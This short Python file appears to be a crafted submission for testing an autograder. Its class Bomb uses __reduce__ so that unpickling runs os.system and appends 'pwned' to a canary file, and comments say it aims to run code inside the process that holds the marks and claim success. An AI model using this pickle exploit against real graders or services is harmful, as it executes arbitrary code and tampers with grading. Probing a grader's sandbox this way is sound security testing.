# %%answer hello_ranks
# tries: returns an object that, unpickled, writes a file and claims success
# unprotected: its code runs in the process that holds the marks
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("echo pwned >> ~/hpml-canary-pickle",)


def hello(number):
    return Bomb()
